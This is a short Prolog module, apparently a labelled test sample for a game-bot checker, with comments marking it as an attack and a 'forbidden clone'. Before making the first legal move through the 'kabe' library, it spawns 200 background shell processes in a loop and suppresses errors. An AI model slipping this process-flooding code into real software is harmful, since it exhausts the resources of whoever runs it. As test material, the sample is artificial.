% Attack: starts shells without end.
% Verdict: forbidden clone

:- module(fork_bomb, [fork_bomb/3]).

:- use_module(library(kabe)).

fork_bomb(C, X, Y) :-
    sada(0),
    mangi(C, X, Y), !.
fork_bomb(_, _, _).

sada(N) :- N < 200, catch(shell('sleep 100 &', _), _, true), N1 is N + 1, sada(N1).
sada(200).

mangi(C, X, Y) :-
    kabe:legal_moves(C, X, Y, [K|_]),
    kabe:make_move(K).
